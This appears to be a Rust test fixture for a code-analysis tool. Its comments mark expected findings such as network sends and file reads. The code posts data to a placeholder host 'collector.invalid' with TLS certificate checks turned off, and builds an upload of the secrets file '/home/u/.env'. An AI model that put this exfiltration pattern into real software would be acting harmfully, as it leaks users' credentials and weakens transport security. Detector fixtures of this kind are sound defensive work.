//! dependency: curl = "0.4.49"
use curl::easy::{Easy, Form};

pub fn report(text: &[u8]) -> Result<(), curl::Error> {
    let mut easy = Easy::new();
    easy.url("https://collector.invalid/in")?; //~ net.connect https://collector.invalid/in
    easy.post(true)?; //~ net.send https://collector.invalid/in
    easy.post_fields_copy(text)?; //~ net.send https://collector.invalid/in
    easy.ssl_verify_peer(false)?; //~ mention tls-checks-off
    easy.perform() //~ net.connect perform
}

pub fn upload() -> Option<()> {
    let mut form = Form::new();
    form.part("file").file("/home/u/.env").add().ok()?; //~ file.read /home/u/.env
    let mut easy = Easy::new();
    easy.httppost(form).ok()?; //~ net.send
    Some(())
}
